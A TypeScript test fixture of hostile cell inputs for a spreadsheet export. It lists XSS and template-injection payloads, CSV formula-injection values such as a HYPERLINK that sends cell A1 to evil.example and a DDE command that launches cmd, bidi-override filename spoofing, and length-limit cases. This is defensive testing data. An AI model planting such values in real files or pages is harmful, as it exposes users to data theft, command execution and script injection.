const markup = `<img src=x onerror="window.hacked=1"><script>window.hacked=2</script><b>bold</b>`;

/** What somebody may type, paste or import into a cell, by what is hostile about it. */
export const hostileTexts: Readonly<Record<string, string>> = {
  markup,
  "markup out of an attribute": `"><svg onload=window.hacked=3><a href="javascript:window.hacked=4">x</a>`,
  "a template's braces": "{{constructor.constructor('window.hacked=5')()}}${window.hacked=6}",
  "a link as formula": '=HYPERLINK("http://evil.example/?"&A1,"Read me")',
  "a sum as formula": "=1+1",
  "a command after plus": "+cmd|' /C calc'!A0",
  "a function after at": "@SUM(1,2)",
  "a sum after minus": "-2+3",
  "a formula in full width": "＝1+1",
  "a formula after a blank": "\t =1+1",
  "an array's braces": "{=1+1}",
  "quotes and brackets": `a"b'c[d]#e@f]]`,
  "a way out of a quoted name": '"&HYPERLINK("http://evil.example")&"',
  "a way out of a column's brackets": "x]]+HYPERLINK(A1)+tblSchool[[School",
  "a reference": "tblSchool[#All]",
  "an apostrophe at both ends": "''x'",
  "marks that sheets cannot have": "a:b\\c/d?e*f[g]h",
  "separators of lists and keys": "a; b| c\\",
  wildcards: "~*?",
  "a comparison": "<>5",
  "an error value": "#REF!",
  "a boolean": "TRUE",
  "a number": "1E5",
  "a day": "2022-01-01",
  "a right-to-left override": "\u202egnp.exe\u202e\u202e",
  "ends of isolates, then an override": "\u2069\u2069\u2069\u202eabc\u2067def",
  Arabic: "مدرسة (1)",
  "control characters": "a\u0000b\u0007c\u001bd\u007fe\u0085f",
  "lines and tabs": "one\ntwo\r\nthree\tfour\u2028five",
  "halves of characters": "\ud83d x \ude00",
  "a character of two halves at every cut": "x".repeat(14) + "😀".repeat(110),
  "255 characters": "W".repeat(252) + '"""',
  "256 characters": "W".repeat(256),
  "32,767 characters": "W".repeat(32_767),
  "32,767 characters of markup": markup.repeat(400).slice(0, 32_767),
};

/** The longest text that a cell holds. */
export const MOST = 32_767;

/** A hostile text with another end, so that it can name several things; it begins as it did. */
export function endingIn(text: string, end: string): string {
  return text.slice(0, MOST - end.length) + end;
}
